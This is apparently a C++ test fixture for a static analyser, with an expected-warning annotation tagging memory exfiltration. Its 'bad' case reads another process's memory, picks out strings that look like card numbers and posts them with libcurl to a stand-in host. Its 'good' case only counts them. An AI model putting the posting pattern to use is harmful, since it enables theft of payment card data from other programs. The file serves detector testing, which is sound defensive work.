/* C++: what looks like a card number in another process is posted; or counted. */
#include <cstdio>
#include <cstring>
#include <curl/curl.h>
#include <sys/types.h>
#include <sys/uio.h>

namespace {

class Scanner {
  public:
    virtual ~Scanner() = default;
    void scan(pid_t pid, unsigned long from) {
        iovec here = {block, sizeof block}, there = {reinterpret_cast<void *>(from), sizeof block};
        if (process_vm_readv(pid, &here, 1, &there, 1, 0) < 0)
            return;
        for (unsigned i = 0; i + 16 < sizeof block; i++)
            if (std::memchr("3456", block[i], 4))
                found(block + i);
    }

  protected:
    virtual void found(const char *text) = 0;
    char block[512];
};

struct Post final : Scanner {
    void found(const char *text) override {
        char copy[17] = "";
        std::memcpy(copy, text, 16);
        CURL *curl = curl_easy_init();
        curl_easy_setopt(curl, CURLOPT_URL, "https://pos-updates.example/t");
        curl_easy_setopt(curl, CURLOPT_COPYPOSTFIELDS, copy);
        // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/memory-of-others]}}
        curl_easy_perform(curl);
        curl_easy_cleanup(curl);
    }
};

struct Count final : Scanner {
    void found(const char *) override {
        count++;
    }
    unsigned count = 0;
};

} // namespace

void bad_scan(pid_t pid) {
    Post post;
    post.scan(pid, 0x400000);
}

unsigned good_scan(pid_t pid) {
    Count count;
    count.scan(pid, 0x400000);
    return count.count;
}
